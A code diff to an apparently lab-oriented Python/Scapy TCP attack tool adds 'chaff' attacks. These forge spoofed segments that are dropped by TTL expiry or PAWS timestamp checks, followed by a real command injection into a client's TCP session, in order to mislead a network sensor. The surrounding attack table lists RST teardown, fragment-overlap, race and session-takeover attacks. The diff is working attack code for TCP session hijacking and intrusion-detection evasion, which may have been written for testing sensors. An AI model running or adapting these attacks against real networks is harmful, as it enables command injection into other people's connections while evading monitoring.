@@ -165,10 +165,11 @@ class Attacker:
 
     # ------------------------------------------------------------------ forging
     def forge(self, frm, flags, seq, ack, payload=b"", ttl=None, ts=True, win=None,
-              spoof_mac=True, note="", frags=None):
+              spoof_mac=True, note="", frags=None, tsval=None):
         """Send one TCP segment as endpoint `frm` ('c' or 's') to the other one. frags:
         send it as IP fragments instead, a list of (offset, length, bytes or None) over
-        the TCP segment (None: the segment's own bytes there; see fragments())."""
+        the TCP segment (None: the segment's own bytes there; see fragments()). tsval:
+        this TSval instead of the extrapolated one (PAWS chaff)."""
         a, b = (self.c, self.s) if frm == "c" else (self.s, self.c)
         hops = ttl if ttl is not None else a.ttl
         if ":" in a.ip:
@@ -178,7 +179,8 @@ class Attacker:
             ip = IP(src=a.ip, dst=b.ip, ttl=hops, id=a.ipid, flags="DF")
         opts = []
         if ts and a.tsval is not None:
-            opts = [("NOP", None), ("NOP", None), ("Timestamp", (self.ts_now(a), b.tsval or 0))]
+            tv = self.ts_now(a) if tsval is None else tsval & 0xFFFFFFFF
+            opts = [("NOP", None), ("NOP", None), ("Timestamp", (tv, b.tsval or 0))]
         tcp = TCP(sport=a.port, dport=b.port, seq=seq & 0xFFFFFFFF, ack=ack & 0xFFFFFFFF,
                   flags=flags, window=a.win if win is None else win, options=opts)
         pkt = Ether(src=a.mac if spoof_mac and a.mac else self.own_mac, dst=b.mac) / ip / tcp
@@ -452,7 +454,38 @@ def a_takeover(at):
         time.sleep(at.args.gap)
 
 
-ATTACKS = {"rst_blind": a_rst_blind, "rst_exact": a_rst_exact, "inject_data": a_inject_data,
+def _send_chaff(at, data):
+    """One copy of `data` as the client at its next sequence number that the server
+    cannot accept: --chaff ttl (TTL / hop limit --ttl, which expires at the router in
+    the routed topology) or --chaff paws (a TSval --paws-back ms older than the
+    client's clock: RFC 7323 PAWS drops it). Everything else is the client's."""
+    if at.args.chaff == "ttl":
+        at.forge("c", "PA", at.c.nxt, at.s.nxt, data, ttl=at.args.ttl,
+                 note="TTL-limited chaff (TTL %d)" % at.args.ttl)
+    else:
+        old = at.ts_now(at.c) - at.args.paws_back
+        at.forge("c", "PA", at.c.nxt, at.s.nxt, data, tsval=old,
+                 note="PAWS chaff (TSval %d ms old)" % at.args.paws_back)
+
+
+def a_chaff(at):
+    """Chaff alone: after the exchange, one undeliverable copy with other bytes over
+    the range the real client's next command will fill."""
+    if _after_exchange(at, at.args.after):
+        _send_chaff(at, b"CHAFF!!\n")
+
+
+def a_chaff_inject(at):
+    """The insertion evasion: an undeliverable copy carrying the bytes the real client
+    will send next ("cmd NNN"), then the real injection over the same range. A sensor
+    that takes the chaff as the first version sees the client's later bytes agree."""
+    if _after_exchange(at, at.args.after):
+        _send_chaff(at, b"cmd %03d\n" % at.args.after)
+        time.sleep(0.005)
+        at.forge("c", "PA", at.c.nxt, at.s.nxt, line(at.args.payload), note="injected command after chaff")
+
+
+ATTACKS = {"chaff": a_chaff, "chaff_inject": a_chaff_inject, "rst_blind": a_rst_blind, "rst_exact": a_rst_exact, "inject_data": a_inject_data,
            "inject_data_frag": a_inject_data_frag, "frag_overlap": a_frag_overlap,
            "race_response": a_race_response, "synack_race": a_synack_race,
            "early_desync": a_early_desync, "inject_fin": a_inject_fin, "spray": a_spray,
@@ -478,6 +511,8 @@ def main():
     p.add_argument("--count", type=int, default=3)
     p.add_argument("--gap", type=float, default=0.05)
     p.add_argument("--ttl", type=int, default=113)
+    p.add_argument("--chaff", choices=("ttl", "paws"), default="ttl")
+    p.add_argument("--paws-back", type=int, default=100000)
     p.add_argument("--ahead", type=int, default=1000000)
     p.add_argument("--seed", type=int, default=7)
     args = p.parse_args()
